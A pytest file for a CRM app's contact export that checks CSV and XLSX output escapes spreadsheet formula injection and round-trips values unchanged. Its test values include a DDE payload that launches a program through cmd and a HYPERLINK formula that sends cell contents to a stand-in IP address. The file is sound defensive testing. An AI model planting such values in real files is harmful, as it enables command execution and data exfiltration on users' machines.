"""Odd values on their way out: what a spreadsheet would run or cannot hold, and how it comes back."""

from collections import Counter
from dataclasses import dataclass
from pathlib import Path

import openpyxl
import pytest
from import_runs import import_here
from odd_files import contacts_of

from tests.database_dump import dump
from ulkacrm_desktop.core.contact_query import ContactQuery, ContactSelection
from ulkacrm_desktop.core.errors import ExpectedError
from ulkacrm_desktop.services.exports.contacts import write_contacts
from ulkacrm_desktop.services.exports.report import ExportNotice, ExportReport
from ulkacrm_desktop.services.queries.contact_documents import contact_documents
from ulkacrm_desktop.services.queries.properties import property_definitions
from ulkacrm_desktop.services.workspace import Workspace

FIELDS = ("name", "phone", "company", "notes")


@dataclass(frozen=True)
class OddValue:
    """A value of a field, and how it stands in a CSV file."""

    case: str
    field: str
    value: str
    csv: str

    def __str__(self) -> str:
        return self.case


ODD_VALUES = [
    OddValue("equals", "company", "=SUM(A1:A9)", "'=SUM(A1:A9)"),
    OddValue("plus", "company", "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    OddValue("minus", "company", "-2+3", "'-2+3"),
    OddValue("at", "company", "@home", "'@home"),
    OddValue("full-width equals", "company", "＝1+1", "'＝1+1"),
    OddValue("an apostrophe before it", "company", "'=1", "''=1"),
    OddValue("a link that tells", "notes", '=HYPERLINK("http://192.0.2.1/?"&A1)', '"\'=HYPERLINK(""http://192.0.2.1/?""&A1)"'),
    OddValue("in the name", "name", "=Anna", "'=Anna"),
    OddValue("a phone with a plus", "phone", "+7 (916) 123-45-67", "+7 (916) 123-45-67"),
    OddValue("a negative number", "notes", "-5", "-5"),
    OddValue("an apostrophe alone", "notes", "'quoted", "'quoted"),
]  # fmt: skip


def export(workspace: Workspace, path: Path, *, cut: bool = True) -> ExportReport:
    with workspace.reading() as connection:
        return write_contacts(
            path,
            path.suffix[1:],
            contact_documents(connection, ContactSelection.matching(ContactQuery())),
            ("id", *FIELDS),
            property_definitions(connection),
            "en",
            cut_long_texts=cut,
        )


def filled(workspace: Workspace, folder: Path, **values: str) -> None:
    """One contact with these values, imported from an address card, in which nothing is a formula."""
    escaped = {key: text.replace("\\", "\\\\").replace(";", "\\;").replace(",", "\\,") for key, text in values.items()}
    lines = [f"{line}:{escaped[key]}" for key, line in CARD_LINES.items() if key in escaped]
    path = folder / "in.vcf"
    path.write_text("\r\n".join(["BEGIN:VCARD", "VERSION:4.0", *lines, "END:VCARD", ""]), encoding="utf-8")
    assert import_here(workspace, path).created == 1


CARD_LINES = {"name": "FN", "phone": "TEL", "company": "ORG", "notes": "NOTE"}


def unchanged_by(workspace: Workspace, path: Path) -> None:
    """The file, imported again, changes nothing."""
    with workspace.reading() as connection:
        before = dump(connection)
    report = import_here(workspace, path)
    assert (report.unchanged, report.errors, report.operation) == (1, (), None)
    with workspace.reading() as connection:
        assert dump(connection) == before


@pytest.mark.parametrize("odd", ODD_VALUES, ids=str)
def test_what_a_spreadsheet_would_run(odd: OddValue, local_workspace: Workspace, tmp_path: Path) -> None:
    values = {"name": "Anna", "phone": "+442079460000", odd.field: odd.value}
    filled(local_workspace, tmp_path, **values)
    before = contacts_of(local_workspace)
    assert before[0].get(odd.field, before[0].get("phones", [("",)])[0][0]) == odd.value
    table = tmp_path / "out.csv"
    export(local_workspace, table)
    reference = f"{local_workspace.code}-1"
    cells = [{**values, odd.field: odd.csv}.get(field, "") for field in FIELDS]
    assert table.read_bytes() == (
        b"\xef\xbb\xbfID,Name,Phone,Company,Notes\r\n" + ",".join([reference, *cells]).encode() + b"\r\n"
    )
    unchanged_by(local_workspace, table)
    book = tmp_path / "out.xlsx"
    export(local_workspace, book)
    _headings, row = openpyxl.load_workbook(book).active.iter_rows()
    assert [(cell.data_type, cell.value) for cell in row if cell.value is not None] == [
        ("s", text) for text in (reference, *(values.get(field) for field in FIELDS)) if text
    ]
    unchanged_by(local_workspace, book)


def test_formulas_come_back_unchanged_on_both_engines(workspace: Workspace, tmp_path: Path) -> None:
    filled(workspace, tmp_path, name="=Anna", phone="+79161234567", company="@home", notes="-2+3")
    for kind in ("csv", "xlsx", "vcf"):
        export(workspace, tmp_path / f"out.{kind}")
        unchanged_by(workspace, tmp_path / f"out.{kind}")


def test_a_text_too_long_for_a_cell_is_warned_of_before_it_is_cut(local_workspace: Workspace, tmp_path: Path) -> None:
    filled(local_workspace, tmp_path, name="Anna", notes="x" * 32_768)
    path = tmp_path / "out.xlsx"
    with pytest.raises(ExpectedError) as refusal:
        export(local_workspace, path, cut=False)
    assert refusal.value.code == "export_texts_too_long"
    assert refusal.value.facts == {"count": 1, "examples": [(2, "Notes")]}
    assert not path.exists()
    assert export(local_workspace, path).notices == (ExportNotice("texts_cut", 1, ((2, "Notes"),)),)
    assert openpyxl.load_workbook(path).active["E2"].value == "x" * 32_767
    whole = tmp_path / "out.csv"
    export(local_workspace, whole, cut=False)
    unchanged_by(local_workspace, whole)


def test_no_row_of_the_specification_is_left_out() -> None:
    assert Counter(odd.field for odd in ODD_VALUES) == {"company": 6, "notes": 3, "name": 1, "phone": 1}
